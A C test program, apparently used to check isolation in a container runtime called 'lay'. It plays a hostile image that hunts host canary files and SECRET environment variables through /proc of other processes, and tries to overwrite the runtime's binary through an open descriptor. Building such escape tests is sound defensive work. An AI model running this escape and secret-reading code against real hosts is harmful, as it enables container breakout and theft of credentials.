/* What a hostile image does to reach the host through a process of lay:
 *   escape hunt CANARY     for ever: says "hunting", then whatever it gets of the file CANARY of the host by
 *                          /proc/N/root, or of SECRET in an environment, of processes that it sees
 *   escape write OUT       until lay's program, which stands open at descriptor 9, is not busy any more: appends to it,
 *                          and writes to OUT what came of it
 * Static: gcc -static. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/prctl.h>
#include <unistd.h>

static void look_at(long process, const char* canary) {
  char path[512], text[4096];
  snprintf(path, sizeof path, "/proc/%ld/root%s", process, canary);
  int file = open(path, O_RDWR);
  if (file >= 0) {
    if (read(file, text, sizeof text) > 0) printf("read of %ld\n", process);
    if (write(file, "owned\n", 6) == 6) printf("written through %ld\n", process);
    close(file);
  }
  snprintf(path, sizeof path, "/proc/%ld/environ", process);
  file = open(path, O_RDONLY);
  if (file < 0) return;
  const ssize_t count = read(file, text, sizeof text);
  if (count > 0 && memmem(text, (size_t)count, "SECRET", 6)) printf("secret of %ld\n", process);
  close(file);
}

static int hunt(const char* canary) {
  puts("hunting");
  for (;;)
    for (long process = 2; process < 200; ++process)
      if (process != getpid()) look_at(process, canary);
}

static int write_to_program(const char* out) {
  prctl(PR_SET_PDEATHSIG, 0);
  for (int tries = 0; tries < 3000; ++tries) {
    const int program = open("/proc/self/fd/9", O_WRONLY | O_APPEND);
    if (program < 0 && errno == ETXTBSY) {
      usleep(10000);
      continue;
    }
    FILE* said = fopen(out, "w");
    fprintf(said, "%s\n", program < 0 ? strerror(errno) : write(program, "owned", 5) == 5 ? "written" : "opened");
    fclose(said);
    return 0;
  }
  return 1;
}

int main(int count, char** words) {
  setvbuf(stdout, NULL, _IONBF, 0);
  if (count != 3) return 2;
  return strcmp(words[1], "hunt") == 0 ? hunt(words[2]) : write_to_program(words[2]);
}
